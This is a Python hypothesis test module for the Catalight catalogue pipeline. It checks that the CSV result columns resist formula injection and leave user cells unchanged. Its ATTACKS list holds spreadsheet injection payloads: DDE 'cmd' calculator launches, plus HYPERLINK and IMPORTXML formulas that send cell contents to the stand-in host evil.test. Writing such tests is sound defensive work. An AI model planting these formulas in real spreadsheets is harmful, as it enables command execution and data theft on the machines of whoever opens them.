"""A spreadsheet program executes nothing that Catalight adds, for any input from catalogues and hosts."""

import csv
import io
import re
from dataclasses import replace

from hypothesis import example, given, settings
from hypothesis import strategies as st

from catalight.domain.catalogue import catalogue
from catalight.domain.catalogue.files import Dialect
from catalight.domain.catalogue.result_columns import RESULT_COLUMNS
from catalight.domain.catalogue.url_repair import Repair
from catalight.domain.errors import ImageError, ImageErrorCode
from catalight.domain.job import links, safe_names
from catalight.domain.job.row import Image
from tests.pipeline import Pipeline, a_submission
from tests.results import a_job, a_row, written

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?"&A1,"ok")',
    '=IMPORTXML(CONCAT("https://evil.test?",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    '""=1+1',
    "',=1+1",
    ";=1+1",
    "\uff1d\uff11\uff0b\uff11",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '=1+1",=2+2,"',
]
TEXTS = (
    st.sampled_from(ATTACKS)
    | st.text()
    | st.text("=+-@\t\r\n\"',;|&%0a \uff1d\uff0b\uff0d\uff20\ufeff\u202e\x00.h")
)
URLS = st.builds("https://host.test/{}{}".format, TEXTS, st.sampled_from(["", ".jpg", "?=1", "#@x"]))
CODES = st.sampled_from(ImageErrorCode)
DIALECTS = st.builds(
    Dialect, st.sampled_from([",", ";", "\t", "|", "~"]), st.sampled_from(["\n", "\r\n"]), st.booleans()
)
BASE = "https://cdn.test"

_LINK = r"https://cdn\.test/images/[A-Za-z0-9_-]{22}/[A-Za-z0-9_.%-]{1,720}\.(?:jpg|webp|avif|png|gif)"
_NOTE = "|".join(["KEPT", "SMALL", "UNCHANGED", r"PLACEHOLDER\?", r"SAME_AS [0-9]+/[0-9]+", *Repair])
_NOTES = rf"(?:{_NOTE})(?:\+(?:{_NOTE}))*"
GRAMMAR = {
    "Output Image Urls": rf"(?:{_LINK})?(?:,(?:{_LINK})?)*",
    "Status": r"DONE|PARTIAL|FAILED|EMPTY",
    "Errors": r"[a-z_]*(?:,[a-z_]*)*",
    "Bytes In": r"[0-9]+",
    "Bytes Out": r"[0-9]+",
    "Notes": rf"(?:{_NOTES})?(?:,(?:{_NOTES})?)*",
}


STEMS = st.none() | TEXTS.map(lambda text: safe_names.segment(safe_names.safe(text, unicode=True)))
"""The name of an image's source, or one that a template made of the row."""


@st.composite
def images(draw: st.DrawFn) -> Image:
    """An image that has ended; an attacker controls its URL and its error text."""
    notes = tuple(draw(st.lists(st.sampled_from([code.value for code in Repair]), max_size=3)))
    image = Image(draw(URLS | TEXTS), written=draw(TEXTS), notes=notes)
    if draw(st.booleans()):
        return image.failed(ImageError(draw(CODES), draw(TEXTS)))
    extension = draw(st.sampled_from(["jpg", "webp", "avif", "png", "gif"]))
    try:
        link = links.link(draw(st.binary(min_size=1)), 1, 0, 0, image.url, extension, draw(STEMS))
    except ValueError:  # an invalid URL is not fetched and gets no link
        return image.failed(ImageError(ImageErrorCode.INVALID_URL, "It is no URL."))
    return image.done(
        link, draw(st.integers(0, 10**8)), draw(st.integers(0, 10**8)), 2, 1, kept=draw(st.booleans())
    )


def safe(added: list[str]) -> bool:
    """Whether the six result cells are safe, also if the file is read with another delimiter."""
    fits = all(re.fullmatch(GRAMMAR[name], cell) for name, cell in zip(RESULT_COLUMNS, added, strict=True))
    parts = [part for cell in added for part in re.split(r"[,;|~\s]", cell) if part]
    return fits and all(re.match(r"https://|[A-Z0-9]|[a-z]+", part) for part in parts)


def read(data: bytes, delimiter: str) -> list[list[str]]:
    """The cells that another CSV reader sees."""
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter, strict=True))


@given(DIALECTS, st.lists(TEXTS, min_size=3, max_size=5), st.lists(images(), max_size=4))
def test_result_columns_are_safe_and_the_users_cells_are_unchanged(
    dialect: Dialect, cells: list[str], ended: list[Image]
) -> None:
    job = a_job(dialect, [f"column {index}" for index in range(len(cells))], link_base=BASE)
    line = written(job, [a_row(cells, ended)]).removeprefix(written(job, [])).decode()
    [found] = csv.reader(io.StringIO(line, newline=""), delimiter=dialect.delimiter, strict=True)
    assert found[: len(cells)] == cells
    assert safe(found[len(cells) :])


@settings(max_examples=40)
@given(
    st.lists(st.tuples(TEXTS, TEXTS, URLS | TEXTS), max_size=4), st.sampled_from([",", ";", "\t", "|", "~"])
)
@example([(url, url, f"https://host.test/{url}.jpg") for url in "bcdc"], ",")  # the second c: SAME_AS 3/1
def test_a_whole_job_adds_no_text_of_catalogue_or_host_to_the_result(
    rows: list[tuple[str, str, str]], delimiter: str
) -> None:
    """Every second image fails, and its error text is a formula."""
    sent = [
        ("Serial Number", "Product Name", "Input Image Urls"),
        ("1", "Tea", "https://host.test/a.jpg"),
        *rows,
    ]
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(sent)
    parsed = catalogue.parse(text.getvalue().encode())
    pipeline = Pipeline()
    job = pipeline.submit(replace(a_submission("https://host.test/a.jpg"), catalogue=parsed, link_base=BASE))
    urls = [image.url for row in pipeline.rows.stream(job.id) for image in row.images]
    formula = ImageError(ImageErrorCode.HTTP_ERROR, "=cmd|'/C calc'!A0")
    pipeline.hosts = dict.fromkeys(urls[1::2], formula)
    pipeline.run()

    [header, *found] = read(pipeline.result(job).encode(), delimiter)
    assert header == [*sent[0], *RESULT_COLUMNS]
    assert [tuple(cells[:3]) for cells in found] == sent[1:]
    assert all(safe(cells[3:]) for cells in found)
